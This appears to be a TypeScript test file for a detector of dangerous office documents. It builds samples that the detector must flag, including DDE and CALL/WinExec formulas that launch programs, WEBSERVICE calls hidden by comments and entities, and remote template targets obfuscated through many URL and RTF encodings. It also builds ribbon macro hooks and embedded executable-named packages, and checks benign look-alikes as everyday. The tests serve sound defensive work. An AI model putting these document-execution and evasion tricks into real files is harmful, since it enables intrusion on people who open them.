// Documents of office programs that would act by a formula, by what they add to the ribbon, or by where they point, however that
// is written; and what is everyday of that kind.
import { describe, expect, it } from 'vitest';
import { judge } from './paper-judge.js';
import * as real from './real-files.js';
import * as make from './samples.js';

describe('an office document that would act by what it says', () => {
  const types = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const points = (type: string, target: string, more = 'TargetMode="External"') =>
    `<Relationships><Relationship Id="r" Type="${types}/${type}" Target="${target}" ${more}/></Relationships>`;
  const content = (body: string) => `<office:document-content>${body}</office:document-content>`;
  const rtf = (body: string) => make.docx({ 'word/afchunk.rtf': `{\\rtf1 ${body}}` });
  const cell = (formula: string, tag = 'f') =>
    make.xlsx({
      'xl/worksheets/sheet1.xml': `<worksheet><c r="A1"><${tag}>${formula}</${tag}><v>1</v></c></worksheet>`,
    });
  const cellOfOds = (formula: string) =>
    real.openDocument('spreadsheet', { 'content.xml': content(`<table:table-cell table:formula='${formula}'/>`) });
  const cellOfOdt = (bytes: Buffer) => real.openDocument('text', { 'content.xml': bytes });
  const inFourBytes = (text: string, order: 'big' | 'little', hasMark: boolean): Buffer => {
    const codes = [...(hasMark ? '\ufeff' : ''), ...text].map((sign) => sign.codePointAt(0)!);
    const bytes = Buffer.alloc(codes.length * 4);
    codes.forEach((code, n) => (order === 'big' ? bytes.writeUInt32BE(code, n * 4) : bytes.writeUInt32LE(code, n * 4)));
    return bytes;
  };
  /** The workbook found first is harmless; the one that is opened, written otherwise, is not. */
  const macroSheetBehind = (): Buffer => real.xls({ more: { WORKBOOK: real.xlsBook({ sheet: 1 }) } });
  const nested = async (deep: number): Promise<Buffer> =>
    make.docx(
      deep === 0
        ? { 'word/vbaProject.bin': make.compoundFile('VBA') }
        : { 'word/embeddings/a.docx': await nested(deep - 1) },
    );
  const ribbon = (more: string, inside = '') =>
    make.docx({
      'customUI/customUI14.xml': `<mso:customUI xmlns:mso="http://schemas.microsoft.com/office/2009/07/customui"${more}>${inside}</mso:customUI>`,
    });
  const template = (target: string) =>
    make.docx({ 'word/_rels/settings.xml.rels': points('attachedTemplate', target) });

  it.each<[string, () => Promise<Buffer>, string, string]>([
    ...[
      ['a formula that asks the web', '_xlfn.WEBSERVICE("http://a/"&amp;A1)', 'active-fetch'],
      ['a formula that reads what the web says', 'FILTERXML(webservice("http://a"),"//b")', 'active-fetch'],
      ['a formula in pieces that asks the web', 'WEB<!-- -->SER<![CDATA[VICE]]>(A1)', 'active-fetch'],
      ['a formula in references that asks the web', '&#87;EBSERVICE (A1)', 'active-fetch'],
      ['a formula that calls a program', "cmd|'/c calc'!A0", 'active-call'],
      ['a formula that calls a program between names', `'a"b'!A1+cmd|'/c calc'!A0+'c"d'!A1`, 'active-call'],
      ['a formula that calls a program behind a column', `T[a'[]+cmd|calc!A0+T[b'[]`, 'active-call'],
      ['a formula that starts a component', 'RTD("a.b",,"c")', 'active-call'],
      ['a formula that calls a library', '1+CALL("Kernel32","WinExec","JCJ","calc",0)', 'active-call'],
    ].flatMap(([what, formula, verdict]) =>
      ['f', 'x14:formula1', 'xm:f', 'definedName'].map((tag): [string, () => Promise<Buffer>, string, string] => [
        `${what!}, as <${tag}>`,
        () => cell(formula!, tag),
        'a.xlsx',
        verdict!,
      ]),
    ),
    [
      'a formula of LibreOffice that asks the web',
      () => cellOfOds('of:=COM.MICROSOFT.WEBSERVICE("http://a")'),
      'a.ods',
      'active-fetch',
    ],
    [
      'a formula of LibreOffice that asks a program',
      () => cellOfOds('of:=1+DDE("soffice";"/a";"b")'),
      'a.ods',
      'active-call',
    ],
    ...(['big', 'little'] as const).flatMap((order) =>
      [true, false].map((hasMark): [string, () => Promise<Buffer>, string, string] => [
        `a macro called in four bytes a sign, ${order}, ${hasMark ? 'marked' : 'unmarked'}`,
        () => cellOfOdt(inFourBytes(content('<a x:href="vnd.sun.star.script:x"/>'), order, hasMark)),
        'a.odt',
        'macro',
      ]),
    ),
    ...['a.docm', 'b.xlam', 'c.iso', 'd.url', 'e.js. ', 'f.html', 'g.library-ms'].map(
      (name): [string, () => Promise<Buffer>, string, string] => [
        `something named ${name}, put into a workbook of before 2007`,
        () =>
          Promise.resolve(
            real.xls({ more: { '\u0001oLE10nATIVE': Buffer.from(`\0\0\0\0\x02\0${name}\0C:\\${name}\0`) } }),
          ),
        'a.xls',
        'program',
      ],
    ),
    ['a sheet of macros behind another workbook', () => Promise.resolve(macroSheetBehind()), 'a.xls', 'macro'],
    ['a document with macros three deep', () => nested(3), 'a.docx', 'macro'],
    ['documents inside of documents without end', () => nested(9), 'a.docx', 'unpacks'],
    ['a ribbon that calls a macro on opening', () => ribbon(' onLoad="a"'), 'a.docx', 'macro'],
    ['a ribbon whose button calls a macro', () => ribbon('', '<mso:button id="a" onAction="a"/>'), 'a.docx', 'macro'],
    ['a ribbon that asks a macro for a word', () => ribbon('', '<mso:tab id="a" getLabel="a"/>'), 'a.docx', 'macro'],
    ...[
      'fi%6Ce://a/x.dotm',
      'fi%256Ce://a/x.dotm',
      'ht&#10;tp://a/x.dotm',
      'ht\ntp://a/x.dotm',
      'h&#9;ttp&#9;://a/x.dotm',
      'h&#x200b;ttp://a/x.dotm',
      '%68ttp%3A//a/x.dotm',
      '%5C%5Ca%5Cx.dotm',
      'file:/%5Ca/x.dotm',
      'file:///%5C%5Ca/x.dotm',
      'file://a:445/x.dotm',
      'file://localhost/..//a/x.dotm',
      '&#1;http://a/x.dotm',
      '\\&#9;\\a\\x.dotm',
      '%25252525252525252541',
    ].map((target): [string, () => Promise<Buffer>, string, string] => [
      `a template under ${JSON.stringify(target)}`,
      () => template(target),
      'a.docx',
      'active-fetch',
    ]),
    [
      'a picture from a place that acts, in escapes',
      () => make.docx({ 'word/_rels/document.xml.rels': points('image', 'm%68tml:http://a/b') }),
      'a.docx',
      'active-fetch',
    ],
    [
      'an object from elsewhere in LibreOffice, in escapes',
      () => real.openDocument('text', { 'content.xml': content('<draw:object x:href="ht%74p://a/b.odt"/>') }),
      'a.odt',
      'active-fetch',
    ],
    ['a template in RTF, in numbers', () => rtf("{\\*\\template h\\'74{\\b tp}://a/x.dotm}"), 'a.docx', 'active-fetch'],
    [
      'a template in RTF from another computer',
      () => rtf('{\\*\\template \\\\\\\\a\\\\x.dotm}'),
      'a.docx',
      'active-fetch',
    ],
  ])('%s', async (_what, bytes, name, verdict) => {
    expect(await judge(await bytes(), name)).toBe(verdict);
  });

  it.each<[string, () => Promise<Buffer>, string]>([
    ...[
      'SUM(A1:A9)*[1]Sheet1!B2',
      'HYPERLINK("http://a","b")',
      'A1&amp;"|"&amp;Sheet2!B1',
      '"Có|Không!"',
      `"'"&amp;A1&amp;"|"&amp;'Tháng "9"'!B2`,
      'Bảng1[Có|Không]+Bảng1[[#This Row],[a|b]]!A1',
      'MYWEBSERVICE(A1)+RECALL(A1)+CREDDE(A1)',
    ].map((formula): [string, () => Promise<Buffer>, string] => [
      `the formula ${formula}`,
      () => cell(formula),
      'a.xlsx',
    ]),
    [
      'words about such formulas',
      () =>
        make.xlsx({ 'xl/sharedStrings.xml': "<sst><si><t>=WEBSERVICE(A1) =cmd|'/c calc'!A0 RTD(1)</t></si></sst>" }),
      'a.xlsx',
    ],
    [
      'a fraction with such words in it',
      () =>
        make.docx({
          'word/document.xml': `<w:document>${'<m:f><m:num><m:r><m:t>CALL(x)</m:t></m:r></m:num></m:f>'}</w:document>`,
        }),
      'a.docx',
    ],
    ['rows of numbers in LibreOffice', () => cellOfOds('of:=SUM({1;2|3;4})+[.A1]'), 'a.ods'],
    [
      'a ribbon with buttons of its program',
      () => ribbon('', '<mso:ribbon><mso:qat><mso:control idQ="mso:FileSave" visible="true"/></mso:qat></mso:ribbon>'),
      'a.docx',
    ],
    [
      'a template with blanks in its name',
      () => template('file:///C:/M%E1%BA%ABu%20c%C3%B4ng%20v%C4%83n.dotx'),
      'a.docx',
    ],
    ['a template in RTF', () => rtf('{\\*\\template C:\\\\Mau\\\\Cong van.dotx}B\\u225?o c\\u225?o'), 'a.docx'],
  ])('but %s is everyday', async (_what, bytes, name) => {
    expect(await judge(await bytes(), name)).toMatch(/^(?:DOCX|XLSX|ODS)$/);
  });
});
